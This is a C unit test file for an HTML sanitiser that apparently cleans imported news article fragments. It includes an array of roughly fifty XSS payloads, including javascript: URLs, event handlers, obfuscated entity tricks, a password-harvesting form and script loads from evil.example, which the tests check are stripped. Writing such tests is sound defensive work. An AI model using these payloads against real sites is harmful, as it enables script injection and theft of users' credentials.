#include "text/sanitise.h"

#include "../test.h"

static struct arena *arena;

static struct str clean(struct str foreign)
{
    struct html html;
    arena_reset(arena);
    assert_ok(sanitise_fragment(arena, foreign, STR("https://news.example/world/talks"), &html));
    return html.s;
}

#define assert_clean(foreign, want) assert_str_equal(clean(STR(foreign)), STR(want))

static void ordinary_markup_is_written_anew(void **state)
{
    (void)state;
    assert_clean("<div class=x><p style='color:red'>One <b>two</b> <i>three</i></p><p>Four</div>",
                 "<p>One <strong>two</strong> <em>three</em></p>\n<p>Four</p>\n");
    assert_clean("<h1>A</h1><h2>B</h2><h5>C</h5>", "<h2>A</h2>\n<h2>B</h2>\n<h4>C</h4>\n");
    assert_clean("<ul><li>a<li>b<ul><li>c</ul></ul>",
                 "<ul><li>a</li>\n<li>b<ul><li>c</li>\n</ul>\n</li>\n</ul>\n");
    assert_clean("<blockquote>q</blockquote><pre>a\n  b</pre>",
                 "<blockquote><p>q</p>\n</blockquote>\n<pre>a\n  b</pre>\n");
    assert_clean("one<br>two<br/><br>", "<p>one<br>\ntwo<br>\n</p>\n");
    assert_clean("just words &amp; more", "<p>just words &amp; more</p>\n");
    assert_clean("<table><tr><td>a</td><td>b</td></tr></table>", "<p>a</p>\n<p>b</p>\n");
    assert_clean("", "");
}

static void addresses_are_resolved_and_checked(void **state)
{
    (void)state;
    assert_clean("<a href='../sport'>s</a> <a href='mailto:a@b.c'>m</a>",
                 "<p><a href=\"https://news.example/sport\" rel=\"nofollow ugc noopener\">s</a> "
                 "<a href=\"mailto:a@b.c\" rel=\"nofollow ugc noopener\">m</a></p>\n");
    assert_clean("<img src='/a.jpg' alt='Two \"chairs\"' onerror=x>",
                 "<p><img src=\"https://news.example/a.jpg\" alt=\"Two &#34;chairs&#34;\" "
                 "loading=\"lazy\"></p>\n");
    assert_clean("<img src='http://a.b/c.jpg'><img src='https://a.b/c.gif' width=1 height=1>", "");
    assert_clean("<img src='data:image/png;base64,AA' data-src='https://a.b/c.jpg'>",
                 "<p><img src=\"https://a.b/c.jpg\" alt=\"\" loading=\"lazy\"></p>\n");
}

static void figures_keep_their_captions(void **state)
{
    (void)state;
    assert_clean("<figure><div><img src=https://a.b/c.jpg></div><figcaption>Sea "
                 "<em>view</em></figcaption></figure>",
                 "<figure><img src=\"https://a.b/c.jpg\" alt=\"\" loading=\"lazy\">"
                 "<figcaption>Sea <em>view</em></figcaption>\n</figure>\n");
}

/* Each would run a script, send a form or restyle the page if any of it came through. */
static const char *const attacks[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=`javascript:alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"https://a.b/\" onclick=alert(1) style=\"position:fixed\">x</a>",
    "<a href='https://a.b/\" onmouseover=\"alert(1)'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<body onload=alert(1) background=javascript:alert(1)>x",
    "<p id=a name=a class=moderator>x</p>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY e \"<script>alert(1)</script>\">]>&e;",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "<a href=\"https://user:pw@evil.example/\">x</a>",
    "<a href=\"//evil.example\\@a.b\">x</a>",
    "<<script>alert(1)//<</script>",
    "<img src=\"https://a.b/c.png\" alt=\"'><script>alert(1)</script>\">",
    "<a target=_blank rel=opener href=https://a.b/>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img onerror=alert(1)&gt;</listing>",
    "</p></div></body></html><script>alert(1)</script>",
};

/* The only openings of tags that our own output has. */
static bool is_ours(struct str tag)
{
    static const char *const plain[] = {
        "<p>",       "</p>",      "<br>",         "<h2>",          "</h2>",        "<h3>",
        "</h3>",     "<h4>",      "</h4>",        "<em>",          "</em>",        "<strong>",
        "</strong>", "<code>",    "</code>",      "<pre>",         "</pre>",       "<ul>",
        "</ul>",     "<ol>",      "</ol>",        "<li>",          "</li>",        "</a>",
        "<figure>",  "</figure>", "<blockquote>", "</blockquote>", "<figcaption>", "</figcaption>",
    };
    for (size_t i = 0; i < sizeof plain / sizeof plain[0]; i++) {
        if (str_eq(tag, str_from_cstr(plain[i])))
            return true;
    }
    if (str_starts(tag, STR("<img src=\"https://")))
        return str_ends(tag, STR("\" loading=\"lazy\">"));
    bool link = str_starts(tag, STR("<a href=\"http")) || str_starts(tag, STR("<a href=\"mailto:"));
    return link && str_ends(tag, STR("\" rel=\"nofollow ugc noopener\">"));
}

static void assert_only_ours(struct str html)
{
    for (size_t at = str_find_char(html, '<', 0); at != STR_NONE;
         at = str_find_char(html, '<', at + 1)) {
        size_t end = str_find_char(html, '>', at);
        assert_true(end != STR_NONE);
        struct str tag = str_slice(html, at, end + 1);
        size_t quotes = 0;
        for (size_t i = 0; i < tag.n; i++)
            quotes += tag.p[i] == '"';
        if (!is_ours(tag) || quotes > 6 || quotes % 2 != 0)
            fail_msg("foreign markup came through: %.*s", STR_ARG(html));
    }
}

static void no_attack_comes_through(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
        assert_only_ours(clean(str_from_cstr(attacks[i])));
    assert_clean("<p>before</p><script>alert(1)</script><p>after</p>",
                 "<p>before</p>\n<p>after</p>\n");
    assert_clean("<a href=javascript:alert(1)>x</a>", "<p>x</p>\n");
}

/* What we wrote, read again, is written the same: nothing grows or shifts when articles are imported twice. */
static void our_own_markup_is_a_fixed_point(void **state)
{
    (void)state;
    static char once[1 << 16];
    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
        struct str html = clean(str_from_cstr(attacks[i]));
        assert_true(html.n < sizeof once);
        memcpy(once, html.p, html.n);
        struct str first = str_make(once, html.n);
        assert_str_equal(clean(first), first);
    }
}

static void nesting_and_size_are_bounded(void **state)
{
    (void)state;
    static char big[SANITISE_INPUT_MAX + 1];
    static const char *const units[] = {"<div>", "<b>",           "<ul><li>",       "<a href=/>",
                                        "<p>",   "<blockquote>a", "</p>",           "<",
                                        "&amp;", "<font>",        "<table><tr><td>"};
    struct html html;
    memset(big, 'a', sizeof big);
    assert_int_equal(sanitise_fragment(arena, str_make(big, sizeof big), STR(""), &html),
                     RC_TOO_LARGE);
    for (size_t u = 0; u < sizeof units / sizeof units[0]; u++) {
        size_t n = 0, length = strlen(units[u]);
        for (; n + length <= 200000; n += length)
            memcpy(big + n, units[u], length);
        arena_reset(arena);
        int64_t begin = work_ns();
        enum rc rc = sanitise_fragment(arena, str_make(big, n), STR("https://a.b/"), &html);
        assert_true(rc == RC_OK || rc == RC_TOO_LARGE);
        if (rc == RC_OK)
            assert_only_ours(html.s);
        assert_true(work_ns() - begin < (int64_t)5 * 1000 * 1000 * 1000);
    }
}

static void bad_bytes_are_refused(void **state)
{
    (void)state;
    struct html html;
    assert_int_equal(sanitise_fragment(arena, STR("a\xff"), STR(""), &html), RC_INVALID);
    assert_int_equal(sanitise_fragment(arena, STR("a\0b"), STR(""), &html), RC_INVALID);
}

static void titles_become_plain_words(void **state)
{
    (void)state;
    struct str plain;
    assert_ok(sanitise_plain(
        arena, STR("<b>Talks</b>  &amp; <i>tea</i><script>x</script>\n in &lt;Aurel&gt;"), 90,
        &plain));
    assert_str_equal(plain, STR("Talks & tea in <Aurel>"));
}

static int set_up(void **state)
{
    (void)state;
    arena = arena_new(64 << 20);
    return arena ? 0 : -1;
}

static int tear_down(void **state)
{
    (void)state;
    arena_free(arena);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(ordinary_markup_is_written_anew),
        cmocka_unit_test(addresses_are_resolved_and_checked),
        cmocka_unit_test(figures_keep_their_captions),
        cmocka_unit_test(no_attack_comes_through),
        cmocka_unit_test(our_own_markup_is_a_fixed_point),
        cmocka_unit_test(nesting_and_size_are_bounded),
        cmocka_unit_test(bad_bytes_are_refused),
        cmocka_unit_test(titles_become_plain_words),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
